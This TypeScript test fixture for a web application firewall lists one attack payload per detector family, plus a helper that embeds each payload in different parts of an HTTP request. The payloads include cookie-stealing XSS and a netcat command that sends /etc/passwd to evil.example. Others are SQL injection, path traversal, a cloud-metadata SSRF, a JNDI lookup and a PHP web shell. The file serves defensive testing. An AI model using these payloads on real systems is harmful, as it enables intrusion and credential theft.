/**
 * The gate's malicious payload set: one payload per detector family, sent in every placement.
 * Written for the gate (not taken from any benchmark suite); each must be blocked on a mutating
 * route and logged "would block" on a monitor-mode GET.
 */
export const ATTACKS: { family: string; payload: string }[] = [
  { family: 'sqli', payload: "' UNION SELECT password FROM users--" },
  { family: 'xss', payload: '<script>document.location="https://evil.example/?c="+document.cookie</script>' },
  { family: 'rce', payload: '; cat /etc/passwd | nc evil.example 4444' },
  { family: 'lfi', payload: '../../../../etc/passwd' },
  { family: 'ssrf', payload: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/' },
  { family: 'ssti', payload: "{{ ''.__class__.__mro__[1].__subclasses__() }}" },
  { family: 'java', payload: '${jndi:ldap://evil.example/a}' },
  { family: 'php', payload: '<?php system($_GET["c"]); ?>' },
];

export type Placement = 'query' | 'json' | 'form' | 'multipart' | 'header' | 'path';
export const PLACEMENTS: Placement[] = ['query', 'json', 'form', 'multipart', 'header', 'path'];

/** A request carrying `payload` in `placement` to `route` with `method`. */
export function attackRequest(
  method: string,
  route: string,
  placement: Placement,
  payload: string,
): { path: string; init: RequestInit } {
  const enc = encodeURIComponent(payload);
  const headers: Record<string, string> = {};
  let body: string | undefined;
  let path = route;
  switch (placement) {
    case 'query':
      path = `${route}?ref=${enc}`;
      break;
    case 'path':
      path = `${route}/${enc.replace(/%2F/gi, '%252F')}`;
      break;
    case 'header':
      headers['user-agent'] = payload;
      headers.referer = `https://gatehouse.example/${payload}`;
      break;
    case 'json':
      headers['content-type'] = 'application/json';
      body = JSON.stringify({ name: payload, email: 'gate-attack@example.test', password: 'gate-attack-password-1' });
      break;
    case 'form':
      headers['content-type'] = 'application/x-www-form-urlencoded';
      body = `name=${enc}&email=gate-attack%40example.test`;
      break;
    case 'multipart': {
      const b = 'gateboundary7MA4YWxk';
      headers['content-type'] = `multipart/form-data; boundary=${b}`;
      body = `--${b}\r\ncontent-disposition: form-data; name="name"\r\n\r\n${payload}\r\n--${b}--\r\n`;
      break;
    }
  }
  const sendsBody = method !== 'GET' && body !== undefined;
  return { path, init: { method, headers, body: sendsBody ? body : undefined } };
}
